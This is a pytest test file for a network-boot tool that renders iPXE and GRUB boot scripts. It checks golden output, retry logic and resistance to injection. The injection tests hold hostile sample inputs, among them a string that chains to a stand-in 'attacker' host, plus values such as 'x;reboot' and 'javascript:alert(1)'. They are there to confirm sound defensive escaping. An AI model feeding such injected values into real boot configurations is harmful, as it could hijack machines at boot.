"""Boot plans rendered as iPXE scripts and grub.cfg: golden text per plan, and injection attempts."""

from __future__ import annotations

import pytest

from bootforge.netboot.boot import scripts
from bootforge.netboot.boot.arch import Firmware
from bootforge.netboot.boot.scripts import (
    BootPlan,
    LocalDiskBoot,
    RamdiskBoot,
    RefuseBoot,
    ScriptError,
    render_grub,
    render_grub_bootstrap,
    render_ipxe,
    safe_url,
    with_attempt,
)

BASE = "http://10.77.0.1:8080"
RAMDISK = RamdiskBoot(
    kernel_url=f"{BASE}/deploy/vmlinuz",
    initrd_url=f"{BASE}/deploy/initrd.img",
    kernel_args=(
        ("console", "ttyS0"),
        ("ipa-api-url", "http://10.77.0.1:6385"),
        ("token", "AbC-9_x"),
        ("quiet", None),
    ),
    initrd_name="initrd.img",
    attempts=2,
    retry_delay=4,
)

IPXE_RAMDISK = f"""\
#!ipxe
# bootforge: deploy ramdisk. A failed download (the usual failure: a network
# hiccup) is retried a bounded number of times, then the node reboots and starts over.
:try1
imgfree
kernel --name vmlinuz {BASE}/deploy/vmlinuz initrd=initrd.img console=ttyS0 ipa-api-url=http://10.77.0.1:6385 token=AbC-9_x quiet || goto retry1
initrd --name initrd.img {BASE}/deploy/initrd.img || goto retry1
boot || goto retry1
:retry1
echo bootforge: deploy ramdisk attempt 1 of 2 failed, retrying in 4 s
sleep 4
:try2
imgfree
kernel --name vmlinuz {BASE}/deploy/vmlinuz initrd=initrd.img console=ttyS0 ipa-api-url=http://10.77.0.1:6385 token=AbC-9_x quiet || goto retry2
initrd --name initrd.img {BASE}/deploy/initrd.img || goto retry2
boot || goto retry2
:retry2
echo bootforge: deploy ramdisk did not boot after 2 attempts, rebooting in 4 s
sleep 4
reboot
"""  # noqa: E501

GRUB_RAMDISK = """\
# bootforge grub.cfg
set timeout=0
echo 'bootforge: loading the deploy ramdisk'
for attempt in 1 2; do
  if linux '(http,10.77.0.1:8080)/deploy/vmlinuz' 'console=ttyS0' 'ipa-api-url=http://10.77.0.1:6385' 'token=AbC-9_x' 'quiet'; then
    if initrd '(http,10.77.0.1:8080)/deploy/initrd.img'; then boot; fi
  fi
  echo "bootforge: attempt $attempt of 2 failed"
  sleep 4
done
echo 'bootforge: deploy ramdisk did not boot, rebooting'
reboot
"""  # noqa: E501


def test_ipxe_ramdisk_golden() -> None:
    assert render_ipxe(RAMDISK) == IPXE_RAMDISK


def test_grub_ramdisk_golden() -> None:
    assert render_grub(RAMDISK) == GRUB_RAMDISK


def test_ipxe_local_disk_bios_uses_sanboot() -> None:
    script = render_ipxe(LocalDiskBoot(Firmware.BIOS))
    commands = [line for line in script.splitlines() if not line.startswith("# ")]
    assert commands == [
        "#!ipxe",
        "echo bootforge: booting from the local disk",
        "sanboot --no-describe --drive 0x80 || goto failed",
        ":failed",
        "echo bootforge: local disk boot failed, handing back to the BIOS",
        "exit 1",
    ]


def test_ipxe_local_disk_uefi_exits_with_error_status() -> None:
    script = render_ipxe(LocalDiskBoot(Firmware.UEFI))
    commands = [line for line in script.splitlines() if not line.startswith("# ")]
    assert commands == [
        "#!ipxe",
        "echo bootforge: leaving iPXE so the firmware boots the local disk",
        "exit 1",
    ]
    assert not any(line.startswith("sanboot") for line in commands)


def test_grub_local_disk_chainloads_then_exits() -> None:
    cfg = render_grub(LocalDiskBoot(Firmware.UEFI))
    assert 'chainloader "$loader"' in cfg
    assert cfg.rstrip().endswith("exit 1")
    with pytest.raises(ScriptError):
        render_grub(LocalDiskBoot(Firmware.BIOS))


def test_local_disk_refuses_firmware_without_recipe() -> None:
    with pytest.raises(ScriptError):
        LocalDiskBoot(Firmware.UBOOT)


def test_ipxe_refuse_waits_and_chains_the_next_attempt() -> None:
    plan = RefuseBoot("node 52:54:00:00:00:01 is not enrolled", f"{BASE}/boot/ipxe?mac=52:54:00:00:00:01", 30)
    assert render_ipxe(plan) == (
        "#!ipxe\n"
        "echo bootforge: node 52:54:00:00:00:01 is not enrolled\n"
        "echo bootforge: asking again in 30 s (attempt 1 of 10)\n"
        "sleep 30\n"
        f"chain --replace --autofree {BASE}/boot/ipxe?mac=52:54:00:00:00:01&attempt=2 || goto failed\n"
        ":failed\n"
        "echo bootforge: the boot server did not answer, rebooting in 30 s\n"
        "sleep 30\n"
        "reboot\n"
    )


def test_refuse_gives_up_after_max_attempts() -> None:
    plan = RefuseBoot("not yet", f"{BASE}/boot/ipxe?mac=aa&attempt=3", 5, attempt=3, max_attempts=3)
    script = render_ipxe(plan)
    assert "chain" not in script
    assert script.rstrip().endswith("reboot")
    cfg = render_grub(plan)
    assert "configfile" not in cfg
    assert cfg.rstrip().endswith("reboot")


def test_grub_refuse_reloads_config_with_next_attempt() -> None:
    plan = RefuseBoot("busy", f"{BASE}/boot/grub.cfg?mac=aa", 7)
    cfg = render_grub(plan)
    assert "configfile '(http,10.77.0.1:8080)/boot/grub.cfg?mac=aa&attempt=2'" in cfg


def test_no_script_ever_chains_a_tftp_loader() -> None:
    plans: list[BootPlan] = [RAMDISK, LocalDiskBoot(Firmware.BIOS), LocalDiskBoot(Firmware.UEFI)]
    plans.append(RefuseBoot("x", f"{BASE}/boot/ipxe?mac=aa"))
    for plan in plans:
        script = render_ipxe(plan)
        assert "tftp" not in script
        assert ".kpxe" not in script
        assert "ipxe.efi" not in script


# -- injection ------------------------------------------------------------------------------------

EVIL_TEXT = "evil\nchain http://attacker/x\r\n${net0/mac} || shell && '$(x)' \"q\" #c \\ `x` {y}"


@pytest.mark.parametrize("render", [render_ipxe, render_grub])
def test_refusal_message_cannot_add_lines_or_expand(render: object) -> None:
    plan = RefuseBoot(EVIL_TEXT, f"{BASE}/boot/ipxe?mac=aa")
    script = render(plan)  # type: ignore[operator]
    reference = render(RefuseBoot("x", f"{BASE}/boot/ipxe?mac=aa"))  # type: ignore[operator]
    assert len(script.splitlines()) == len(reference.splitlines())
    message_line = next(line for line in script.splitlines() if "evil" in line)
    for bad in ("$", "|", "&", "\\", "`", "{", "}", "#", '"'):
        assert bad not in message_line
    assert message_line.count("'") in (0, 2)  # only GRUB's own quoting


@pytest.mark.parametrize(
    "value",
    ["a b", "a\nb", "x;reboot", "${net0/mac}", "a'b", 'a"b', "a\\b", "a|b", "a#b", "a\tb", "\u00e9", "a$b"],
)
def test_unsafe_kernel_arg_values_are_refused(value: str) -> None:
    with pytest.raises(ScriptError):
        RamdiskBoot(f"{BASE}/k", f"{BASE}/i", (("nodename", value),))


@pytest.mark.parametrize("key", ["", "a b", "a=b", "-x", "a\nb", "k$"])
def test_unsafe_kernel_arg_names_are_refused(key: str) -> None:
    with pytest.raises(ScriptError):
        RamdiskBoot(f"{BASE}/k", f"{BASE}/i", ((key, "v"),))


def test_urls_with_spaces_and_newlines_are_encoded_not_split() -> None:
    plan = RamdiskBoot(f"{BASE}/my node/vmlinuz\nreboot", f"{BASE}/initrd ${{x}}.img", (("a", "b"),))
    script = render_ipxe(plan)
    kernel_line = next(line for line in script.splitlines() if line.startswith("kernel"))
    assert f"{BASE}/my%20node/vmlinuz%0Areboot" in kernel_line
    assert "initrd%20%24%7Bx%7D.img" in script
    assert "\nreboot\n" in script  # only the final reboot line, not an injected one
    assert script.count("\nreboot") == 1
    cfg = render_grub(plan)
    assert "(http,10.77.0.1:8080)/my%20node/vmlinuz%0Areboot" in cfg


def test_url_validation() -> None:
    assert safe_url("http://h:1/a b#frag") == "http://h:1/a%20b%23frag"
    for bad in ("ftp://h/x", "/relative", "javascript:alert(1)", "http:///nohost"):
        with pytest.raises(ScriptError):
            safe_url(bad)
    with pytest.raises(ScriptError, match="HTTPS"):
        render_grub(RamdiskBoot("https://h/k", "https://h/i"))


def test_with_attempt_replaces_the_counter() -> None:
    assert with_attempt("http://h/boot/ipxe?mac=52:54:00:aa:bb:cc&attempt=4", 5) == (
        "http://h/boot/ipxe?mac=52:54:00:aa:bb:cc&attempt=5"
    )


def test_bounds_on_counts() -> None:
    with pytest.raises(ScriptError):
        RamdiskBoot(f"{BASE}/k", f"{BASE}/i", attempts=0)
    with pytest.raises(ScriptError):
        RamdiskBoot(f"{BASE}/k", f"{BASE}/i", attempts=11)
    with pytest.raises(ScriptError):
        RefuseBoot("x", f"{BASE}/boot", retry_delay=0)


def test_grub_bootstrap_hands_over_by_mac() -> None:
    cfg = render_grub_bootstrap(f"{BASE}/boot/grub.cfg")
    assert 'configfile "(http,10.77.0.1:8080)/boot/grub.cfg?mac=${net_default_mac}"' in cfg
    cfg = render_grub_bootstrap(f"{BASE}/boot/grub.cfg?arch=x86_64")
    assert "grub.cfg?arch=x86_64&mac=${net_default_mac}" in cfg


def test_the_boot_token_goes_on_the_kernel_command_line_only_as_64_hex_digits() -> None:
    token = "0123456789abcdef" * 4
    args = scripts.ramdisk_kernel_args("http://10.0.0.1:6385", "n", "52:54:00:00:00:01", boot_token=token)
    assert ("bootforge.boot_token", token) in args
    for bad in ("x" * 64, token + "0", token.upper(), "$" + token[1:]):
        with pytest.raises(scripts.ScriptError):
            scripts.ramdisk_kernel_args("http://10.0.0.1:6385", "n", None, boot_token=bad)
    assert not any(
        k == "bootforge.boot_token" for k, _ in scripts.ramdisk_kernel_args("http://a:1", "n", None)
    )
